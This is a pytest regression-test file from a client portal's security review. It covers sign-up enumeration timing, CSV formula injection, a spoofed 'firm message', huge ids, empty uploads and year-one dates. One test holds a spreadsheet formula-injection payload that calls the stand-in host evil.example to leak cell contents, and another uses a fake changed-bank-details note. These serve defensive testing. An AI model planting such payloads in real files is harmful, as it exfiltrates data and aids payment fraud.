"""Regression tests of the portal security review (part 2): sign-up work for unknown addresses, audit CSV
formulas, contacts' notes, oversized ids and dates, empty uploads and year-1 voucher dates."""
import csv
import io
from datetime import date

from sqlalchemy import func, select

from app.extensions import db
from app.models import Document, Task, TaxVoucher
from app.models.contacts import PortalState
from app.security import roles as R
from app.services import vouchers
from tests import factories as f
from tests.conftest import csrf_token
from tests.documents_helpers import PDF
from tests.portal_auth_helpers import fresh_limits, run_jobs  # noqa: F401  (fresh_limits: autouse)
from tests.test_portal_review import world  # noqa: F401  (the shared fixture)

JSON = {"Accept": "application/json"}
BIG = str(2**64)
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


# 7 --------------------------------------------------------------------------------------------------
def test_sign_up_does_the_same_database_work_for_invited_and_unknown_addresses(app, smtp, count_queries):
    """Sign-up timing told invited addresses: both now run as many SQL statements; no mail to the unknown."""
    with app.app_context():
        invited = f.contact(email="invited@client.example")
        invited.portal_state = PortalState.invited
        db.session.commit()
    counts = {}
    for email in ("invited@client.example", "nobody@client.example"):
        browser = app.test_client()
        token = csrf_token(browser, "/portal/sign-up")
        with count_queries() as n:
            response = browser.post("/portal/sign-up", data={"csrf_token": token, "first_name": "A",
                                                             "last_name": "B", "email": email})
            counts[email] = n()
        assert response.status_code == 302 and response.headers["Location"].endswith("/portal/sign-up/verify")
    assert counts["invited@client.example"] == counts["nobody@client.example"], counts
    run_jobs(app)
    assert [m for m in smtp.messages if m["To"] == "invited@client.example"]
    assert not [m for m in smtp.messages if m["To"] == "nobody@client.example"]


# 8 --------------------------------------------------------------------------------------------------
def test_audit_csv_neutralises_formulas_in_user_and_entity_cells(app, client, portal_login, login, world):
    """Contact named "=HYPERLINK(...)" was a formula in the audit CSV: User/Entity cells are now neutralised."""
    with app.app_context():
        entity = db.session.get(Task, world.task).entity
        entity.name = "+SUM(1,2)"
        db.session.commit()
    portal_login(client, world.cora)
    token = csrf_token(client, "/portal/settings/profile")
    payload = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'
    response = client.post("/portal/settings/profile", data={
        "csrf_token": token, "first_name": payload, "last_name": "X", "phone": "", "language": "en"})
    assert response.status_code == 302
    assert client.get(f"/portal/tasks/{world.task}").status_code == 200  # "task.opened", actor = Cora
    with app.app_context():
        admin = f.staff(R.ADMIN).id
    staff = app.test_client()
    login(staff, admin)
    rows = list(csv.reader(io.StringIO(staff.get("/ops/audit/export/csv/").get_data(as_text=True))))
    opened = [row for row in rows if "task.opened" in row]
    assert opened
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)]
    assert any(cell.startswith("'=HYPERLINK(") for cell in opened[0])
    assert any(cell == "'+SUM(1,2)" for cell in opened[0])


# 9 --------------------------------------------------------------------------------------------------
def test_a_contacts_note_is_not_shown_as_a_message_from_the_firm(app, client, portal_login, world):
    """A contact's "Send files" note showed as "Message from the firm" to other contacts: no longer."""
    portal_login(client, world.cora)
    token = csrf_token(client, "/portal/")
    note = "Our bank details changed: pay all taxes to IBAN EE00 1234 5678"
    response = client.post("/portal/send-files", data={
        "csrf_token": token, "entity_id": str(world.a), "note": note,
        "files": (io.BytesIO(PDF), "bank-letter.pdf")}, content_type="multipart/form-data", headers=JSON)
    assert response.status_code == 200
    doc_id = response.get_json()["saved"][0]["id"]
    other = app.test_client()
    portal_login(other, world.rhea)
    listing = other.get("/portal/documents").get_data(as_text=True)
    page = other.get(f"/portal/documents/{doc_id}").get_data(as_text=True)
    assert note in listing and note in page  # still shown, but not as the firm's word
    assert "Message from the firm" not in listing and "Message from the firm" not in page


# 10 -------------------------------------------------------------------------------------------------
GETS = [f"/portal/tasks/{BIG}", f"/portal/documents/{BIG}", f"/portal/documents/{BIG}/download",
        f"/portal/documents/{BIG}/view", f"/portal/requests/{BIG}", f"/portal/payments/voucher/{BIG}/pay",
        f"/portal/payments/voucher/{BIG}/paid", f"/portal/documents?folder={BIG}",
        "/portal/documents?to=9999-12-31", "/portal/documents?from=9999-12-31&to=9999-12-31",
        f"/portal/payments?entity={BIG}", "/portal/payments/9999-12-31", f"/portal/requests?page={BIG}",
        f"/portal/k1?page={BIG}", f"/portal/documents?page={BIG}", f"/portal/notifications?page={BIG}"]
POSTS = [f"/portal/notifications/{BIG}/open", f"/portal/settings/emails/{BIG}/remove",
         f"/portal/settings/browsers/{BIG}/revoke", "/portal/tasks/{task}/checklist/" + BIG,
         f"/portal/tasks/{BIG}/checklist/1", f"/portal/tasks/{BIG}/reply", f"/portal/tasks/{BIG}/files",
         f"/portal/tasks/{BIG}/done", f"/portal/requests/{BIG}/reply", f"/portal/payments/voucher/{BIG}/paid",
         "/portal/entity", "/portal/send-files"]


def test_huge_ids_and_far_dates_never_give_500_on_portal_routes(app, client, portal_login, world):
    """Ids of 2**64 and ?to=9999-12-31 gave 500s: every portal route with an id now answers 404 or 200."""
    portal_login(client, world.cora)
    token = csrf_token(client, "/portal/settings/profile")
    answers = {path: client.get(path).status_code for path in GETS}
    for path in POSTS:
        path = path.replace("{task}", str(world.task))
        answers[path] = client.post(path, data={"csrf_token": token, "entity_id": BIG, "done": "1",
                                                "body": "hi", "paid_on": "2026-01-01"}).status_code
    wrong = {path: status for path, status in answers.items()
             if status not in ((404,) if BIG in path.split("?")[0] else (200, 404))}
    assert not wrong, wrong


# 11 -------------------------------------------------------------------------------------------------
def test_an_empty_upload_is_refused(app, client, portal_login, world):
    """Empty (0-byte) uploads were stored as documents: now refused, nothing kept."""
    portal_login(client, world.cora)
    token = csrf_token(client, "/portal/")
    response = client.post("/portal/send-files", data={
        "csrf_token": token, "entity_id": str(world.a), "note": "", "files": (io.BytesIO(b""), "empty.txt")},
        content_type="multipart/form-data", headers=JSON)
    assert response.status_code == 400
    assert response.get_json()["saved"] == [] and response.get_json()["errors"]
    with app.app_context():
        assert db.session.scalar(select(func.count(Document.id))) == 0


# 12 -------------------------------------------------------------------------------------------------
def test_a_voucher_csv_row_due_in_year_one_is_refused(app, login, world):
    """Voucher CSV row due 0001-01-02 was imported (Mark paid then overflowed): now refused, no overflow."""
    staff = app.test_client()
    login(staff, world.acc)
    token = csrf_token(staff, "/taxvoucherview/import")
    text = "tax_year,authority,form_period,amount,due_date\n2026,IRS,Q1,1.00,0001-01-02\n"
    response = staff.post("/taxvoucherview/import", data={
        "csrf_token": token, "entity": str(world.a), "file": (io.BytesIO(text.encode()), "s.csv")},
        content_type="multipart/form-data")
    assert response.status_code == 200  # the form again, with the row's error
    assert "YYYY-MM-DD" in response.get_data(as_text=True)
    with app.app_context():
        assert db.session.scalar(select(func.count(TaxVoucher.id))) == 0
    assert vouchers.check_paid_on(date(2026, 1, 1), date(1, 1, 2), today=date(2026, 6, 1)) == date(2026, 1, 1)
